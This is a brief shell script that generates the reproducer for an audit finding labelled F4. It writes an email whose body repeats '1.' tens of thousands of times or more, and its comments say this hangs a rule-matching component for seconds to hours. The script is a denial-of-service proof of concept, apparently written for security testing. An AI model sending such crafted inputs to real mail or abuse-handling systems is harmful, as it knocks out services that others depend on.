#!/bin/sh
# hang-rule-attack-body-digits.sh [OUT [PAIRS]] - write the input of finding
# F4 (see hang-rule-attack-body-digits.txt): a plain-text complaint whose
# body is PAIRS times "1." (default 40000, 80 KB: about 15 s; 950000 =
# 1.9 MB, inside max_body: hours). Default OUT: beside this script.
out=${1:-"$(dirname "$0")/hang-rule-attack-body-digits.eml"}
pairs=${2:-40000}
awk -v n="$pairs" 'BEGIN {
	printf "From: reporter@example.net\nTo: abuse@example.org\n"
	printf "Subject: hello\nContent-Type: text/plain\n\n"
	for (i = 0; i < n; i++)
		printf "1."
	printf "\n"
}' > "$out"
